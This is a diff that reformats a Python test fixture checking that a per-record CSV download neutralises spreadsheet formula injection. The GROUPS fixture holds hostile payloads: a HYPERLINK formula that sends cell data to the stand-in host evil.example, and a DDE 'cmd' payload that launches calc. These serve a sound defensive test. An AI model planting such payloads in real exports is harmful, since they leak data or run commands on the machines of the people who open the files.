@@ -21,8 +21,12 @@ from ui.workspace import Table, Workspace
 APP = str(Path(__file__).resolve().parents[2] / "app.py")
 # column names and categories a spreadsheet would run as formulas
 GROUP, SCORE, SECRET = "@group", "-score", "=secret"
-GROUPS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
-          "@SUM(1+1)"]
+GROUPS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
 SECRETS = ["=1+1", "@ill", "healthy"]
 
 
@@ -44,13 +48,25 @@ def hostile_workspace(n: int = 160, seed: int = 0) -> Workspace:
     # the secret follows the group: an attacker on the copy recovers it
     secret = np.where(np.isin(group, GROUPS[:2]), SECRETS[0], SECRETS[1])
     secret = np.where(rng.random(n) < 0.1, SECRETS[2], secret)
-    real = pd.DataFrame({GROUP: group, SCORE: np.round(rng.normal(-1, 1, n), 3),
-                         "age": rng.integers(20, 80, n), SECRET: secret})
-    base = Workspace(real=Table.make("hostile.csv", real, "upload"), releases=(),
-                     holdout=None, quasi_identifiers=(GROUP, SCORE, "age"),
-                     sensitive=(SECRET,), dataset="upload")
-    release = Table.make("copy", real.sample(frac=1.0, random_state=seed,
-                                             ignore_index=True), "generated")
+    real = pd.DataFrame(
+        {
+            GROUP: group,
+            SCORE: np.round(rng.normal(-1, 1, n), 3),
+            "age": rng.integers(20, 80, n),
+            SECRET: secret,
+        }
+    )
+    base = Workspace(
+        real=Table.make("hostile.csv", real, "upload"),
+        releases=(),
+        holdout=None,
+        quasi_identifiers=(GROUP, SCORE, "age"),
+        sensitive=(SECRET,),
+        dataset="upload",
+    )
+    release = Table.make(
+        "copy", real.sample(frac=1.0, random_state=seed, ignore_index=True), "generated"
+    )
     fast = {"attackers": ("logit",), "n_trees": 50, "bootstrap": 0, "subset": 0, "seed": 0}
     return Workspace(**{**base.__dict__, "releases": (release,)}).with_settings(rapid_fit=fast)
 
@@ -72,8 +88,11 @@ def test_rapid_per_record_download_neutralises_formulas():
     assert not [c for row in rows for c in row if starts_formula(c)]
     column = {name: [row[i] for row in body] for i, name in enumerate(header)}
     assert set(column[f"'{GROUP}"]) <= {"'" + g for g in GROUPS}
-    assert set(column["true"]) | set(column["prediction"]) <= {"'" + SECRETS[0],
-                                                                "'" + SECRETS[1], SECRETS[2]}
+    assert set(column["true"]) | set(column["prediction"]) <= {
+        "'" + SECRETS[0],
+        "'" + SECRETS[1],
+        SECRETS[2],
+    }
     # the negative scores are still numbers (a numeric column is never quoted)
     score = pd.to_numeric(pd.Series(column[f"'{SCORE}"]))
     assert (score < 0).any()
